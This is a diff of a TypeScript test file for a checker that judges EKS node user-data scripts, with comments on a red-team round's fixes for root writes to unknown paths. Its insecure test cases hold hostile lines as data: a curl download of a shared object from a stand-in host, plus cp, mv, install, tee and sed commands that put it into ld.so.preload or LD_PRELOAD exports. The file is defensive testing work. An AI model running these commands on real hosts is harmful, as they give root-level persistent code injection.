@@ -1,24 +1,32 @@
-// Red-team round 76 (fix76-node2) on EKS NODE user data: writes as root whose target path holds a part the pack
-// cannot know (a variable never set or set from a download, a command's output, `${VAR:-default}` of an unknown VAR).
-// Such a path may be any file root's programs read: bash(1) "Parameter Expansion"/"Command Substitution" put the value
-// in the word as it is (slashes and `..` included) and path_resolution(7) resolves each `..` against the directory
-// reached so far, so from ANY prefix the path may climb to / and go down anywhere; only the literal text after the last
-// unknown part bounds it. A part that cannot hold a slash (`$(hostname)`, `$(uname -m)`: ONE_WORD) stays in its path
-// component. A prefix the pack knows (a variable the script set, mktemp/mktemp -d's new name under /tmp) is no unknown.
-// Fix (rootReads.ts RootReads.unknownTarget, called from file, writtenUnknown and unknown in-place edits): such a
-// write is judged as a write to each judged file (JUDGED_FILES, JUDGED_DIRECTORIES with the names each directory's
-// reader takes) the path's known parts still allow: unknown content there is refused; known content is judged at each
-// (a comment or a literal PS1 passes, `export LD_PRELOAD=...` is refused as at /root/.bashrc.d/x). cp/mv/install/ln
-// with an unknown destination word (any words: an option too) now write below `/SUBSTITUTED` instead of `/`
-// (rootReads.ts unknownItems), so their copies are judged the same way.
-// Probed (all refused after the fix, U1-U9, U11-U15, U17 accepted before it): redirections `>`/`>>`, tee, cp,
+// Red-team round 76 (fix76-node2, node2b, node2c) on EKS NODE user data: writes as root whose target path holds a part
+// the pack cannot know (a variable never set or set from a download, a command's output, `${VAR:-default}` of an
+// unknown VAR). Such a path may be any file root's programs read: bash(1) "Parameter Expansion"/"Command
+// Substitution" put the value in the word as it is (slashes and `..` included) and path_resolution(7) resolves each
+// `..` against the directory reached so far, so from ANY prefix the path may climb to / and go down anywhere; only the
+// literal text after the last unknown part bounds it. A part that cannot hold a slash (`$(hostname)`, `$(uname -m)`:
+// ONE_WORD) stays in its path component. A prefix the pack knows (a variable the script set, mktemp/mktemp -d's new
+// name under /tmp) is no unknown.
+// Fix (rootReads.ts): RootReads.unknownTarget (called from file, writtenUnknown and unknown in-place edits) judges such
+// a write as a write to each judged file (JUDGED_FILES, JUDGED_DIRECTORIES with the names each directory's reader
+// takes) the path's known parts still allow: unknown content there is refused; known content is judged at each (a
+// comment or a literal PS1 passes, `export LD_PRELOAD=...` is refused as at /root/.bashrc.d/x). resolveWord (node2b):
+// a `..` right after an unknown part stays inside it (`/opt/$UNK/../x` is no known /opt/x). A cp/mv/install/ln whose
+// destination word holds an unknown part (node2c: RootReads.command copiedToUnknown) is judged both as before (the
+// word may be any words, an option too: unknownItems, a copy into /) and at the path the word expands to
+// (unknownTarget), so U4/U5/U6/U20 are refused. Writes after a cd the pack cannot follow go to UNKNOWN_CWD
+// (RootReads.unknownDirectory, from main) before unknownTarget.
+// node2c also: `>&WORD` duplicates a descriptor when WORD expands to digits (bash(1) "Duplicating File Descriptors";
+// shell.ts dupWords), and zsh's ztcp/zsocket leave REPLY holding digits (zshmodules(1) zsh/net/tcp, zsh/net/socket:
+// the descriptor "is stored in the parameter $REPLY"), so `ztcp ... && echo ok >&$REPLY` writes no file; a `>&$X` of
+// any other word stays a file written (U23-U26 pin the insecure side, SU11 the secure).
+// Probed (all refused after the fix, U1-U9, U11-U15, U17, U20 accepted before it): redirections `>`/`>>`, tee, cp,
 // install, mv, sed -i, printf > "$(cat f)", `> "$(cat /opt/dir)/..."`, an unquoted glob /root/.bash* (U10: already
 // refused), ${UNK:-/opt} and ${HOME:-/root} with the variable downloaded, `/opt/app/$UNK` and `/opt/app/$UNK.conf`,
 // a kubelet drop-in below an unknown directory, `$(hostname)` in /etc/profile.d names, mktemp -d + `../..` (U16:
 // resolved, already refused). Secure twins held: a comment or a literal PS1 at an unknown path (redirect and tee),
 // mktemp -d / mktemp outputs, a known variable's directory, LD_PRELOAD text in /opt/app/$(hostname).conf.
 // Left stricter (not a case here): a cp/mv/install of even harmless content to a destination word that begins with an
-// unknown part is refused (the word may be any option, so the literal suffix is not kept).
+// unknown part may be refused (the word may be any option, so it is also judged as a copy into /).
 import { describeNodeCases, devNodeCase, devNodeScript, NodeCase } from "./nodeBuilders";
 
 const SO = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
@@ -43,10 +51,8 @@ const insecure: NodeCase[] = [
         devNodeScript(n("u3"), [SO, UNK, `echo /opt/x.so | tee "$UNK/ld.so.preload"`]),
         REFUSED,
     ),
-    // Still open (round 76 node2b): sending an unquoted unknown copier destination below /SUBSTITUTED (unknownItems)
-    // made this refused but let rt67-cp-unknown and rt68-*-unknown/-t/--target-directory (a tree copied to an unknown
-    // place, judged before as copied into /) pass, so it was reverted; it takes judging such a copy both into / and at
-    // every judged file (RootReads.unknownTarget) in one run.
+    // Was still open (round 76 node2b), fixed in round 76 node2c: the copy is judged both into / (unknownItems, as
+    // before) and at the path its destination word expands to (RootReads.command copiedToUnknown → unknownTarget).
     devNodeCase(
         'U4 cp a written file to "$UNK/profile.d/ops.sh"',
         devNodeScript(n("u4"), [
@@ -56,12 +62,9 @@ const insecure: NodeCase[] = [
             `cp /opt/ops.sh "$UNK/profile.d/ops.sh"`,
         ]),
         REFUSED,
-        true,
     ),
-    // Still open (round 76 node2b): sending an unquoted unknown copier destination below /SUBSTITUTED (unknownItems)
-    // made this refused but let rt67-cp-unknown and rt68-*-unknown/-t/--target-directory (a tree copied to an unknown
-    // place, judged before as copied into /) pass, so it was reverted; it takes judging such a copy both into / and at
-    // every judged file (RootReads.unknownTarget) in one run.
+    // Was still open (round 76 node2b), fixed in round 76 node2c: the copy is judged both into / (unknownItems, as
+    // before) and at the path its destination word expands to (RootReads.command copiedToUnknown → unknownTarget).
     devNodeCase(
         'U5 install a written file to "$UNK"/ld.so.preload',
         devNodeScript(n("u5"), [
@@ -71,17 +74,13 @@ const insecure: NodeCase[] = [
             `install -m 644 /opt/preload "$UNK"/ld.so.preload`,
         ]),
         REFUSED,
-        true,
     ),
-    // Still open (round 76 node2b): sending an unquoted unknown copier destination below /SUBSTITUTED (unknownItems)
-    // made this refused but let rt67-cp-unknown and rt68-*-unknown/-t/--target-directory (a tree copied to an unknown
-    // place, judged before as copied into /) pass, so it was reverted; it takes judging such a copy both into / and at
-    // every judged file (RootReads.unknownTarget) in one run.
+    // Was still open (round 76 node2b), fixed in round 76 node2c: the copy is judged both into / (unknownItems, as
+    // before) and at the path its destination word expands to (RootReads.command copiedToUnknown → unknownTarget).
     devNodeCase(
         'U6 mv a written file to "$UNK/ld.so.preload"',
         devNodeScript(n("u6"), [SO, UNK, "echo /opt/x.so > /opt/preload", `mv /opt/preload "$UNK/ld.so.preload"`]),
         REFUSED,
-        true,
     ),
     devNodeCase(
         'U7 sed -i appending LD_PRELOAD to "$UNK/.bashrc"',
@@ -164,10 +163,8 @@ const insecure: NodeCase[] = [
         devNodeScript(n("u19"), [SO, `echo 'export LD_PRELOAD=/opt/x.so' > "/etc/profile.d/$(hostname).sh"`]),
         REFUSED,
     ),
-    // Still open (round 76 node2b): sending an unquoted unknown copier destination below /SUBSTITUTED (unknownItems)
-    // made this refused but let rt67-cp-unknown and rt68-*-unknown/-t/--target-directory (a tree copied to an unknown
-    // place, judged before as copied into /) pass, so it was reverted; it takes judging such a copy both into / and at
-    // every judged file (RootReads.unknownTarget) in one run.
+    // Was still open (round 76 node2b), fixed in round 76 node2c: the copy is judged both into / (unknownItems, as
+    // before) and at the path its destination word expands to (RootReads.command copiedToUnknown → unknownTarget).
     devNodeCase(
         'U20 cp of a downloaded file to "$(cat /opt/dir)/" (content and path unknown)',
         devNodeScript(n("u20"), [
@@ -176,7 +173,6 @@ const insecure: NodeCase[] = [
             `cp /opt/ops.sh "$(cat /opt/dir)/"`,
         ]),
         REFUSED,
-        true,
     ),
     // Round 76 node2b: `..` right after an unknown part climbs from whatever directory its value reached
     // (path_resolution(7)), not from the text before it; posix.resolve dropped `$UNK/..` (`/x`, a known path).
